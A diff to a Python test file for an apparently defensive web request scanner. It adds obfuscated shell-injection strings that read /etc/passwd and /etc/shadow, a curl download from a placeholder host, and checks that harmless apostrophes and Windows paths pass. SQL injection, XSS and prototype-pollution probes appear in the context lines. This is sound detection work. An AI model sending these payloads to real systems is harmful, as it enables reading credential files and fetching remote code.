@@ -117,6 +117,12 @@ CASES = [
     ("query", "' && this.password.match(/.*/)//", "nosql_js_injection"),
     ("query", "__proto__[isAdmin]=true", "js_prototype_pollution"),
     ("query", "1 AND 9227 BETWEEN 9226 AND 9228", "sqli_numeric_tautology"),
+    ("query", ";c'a't /etc/passwd", "shell_quoted_command"),
+    ("query", "a;wh''oami", "shell_obfuscated_command"),
+    ("query", "/?cmd=/???/??t /???/p??s??", "shell_obfuscated_command"),
+    ("query", ";{cat,/etc/passwd}", "shell_obfuscated_command"),
+    ("query", ";curl -o /tmp/a http://x.example.com/a", "shell_command"),
+    ("query", ";/bin/ca? /etc/pa??wd", "shell_command"),
     ("query", "1 AND 9227 LIKE 9227", "sqli_numeric_tautology"),
     ("query", "-1' OR 2+191-191-1=0+0+0+1 --", "sqli_numeric_tautology"),
     ("query", "-prompt(8)-", "xss_probe_value"),
@@ -397,3 +403,18 @@ def test_javascript_about_prototypes_is_not_prototype_pollution(rf):
         for request in (rf.post("/", data=text, content_type="text/plain"),
                         rf.post("/", data=json.dumps({"code": text}), content_type="application/json")):
             assert "js_prototype_pollution" not in names(scan_request(request)), text
+
+
+@pytest.mark.parametrize("command", [";c'a't /etc/passwd", "|c\\at /etc/shadow", ";{cat,/etc/passwd}", "& w\"h\"oami",
+                                     "$(/???/??t /???/p??s??)"])
+@pytest.mark.parametrize("where", ["query", "body"])
+def test_a_command_spelt_to_hide_its_name_is_blocked_with_what_it_reads(where, command):
+    """Quotes and backslashes inside the command's name, globs, brace expansion: the shell runs it as written;
+    the spelling (a hint) and the file it reads, or the name it runs, add up to a block."""
+    assert scan_at(where, command).score >= BLOCK, command
+
+
+def test_a_windows_path_and_an_apostrophe_are_not_an_obfuscated_command():
+    for text in ["C:\\new\\sam", "see c:\\temp\\readme", "it's; don't; won't", "x; O'Reilly"]:
+        assert not {"shell_obfuscated_command", "shell_quoted_command"} & names(scan_text(text)), text
+    assert scan_text("Guns; rock'n'roll and more").score < BLOCK       # single-quoted letters: a hint at most
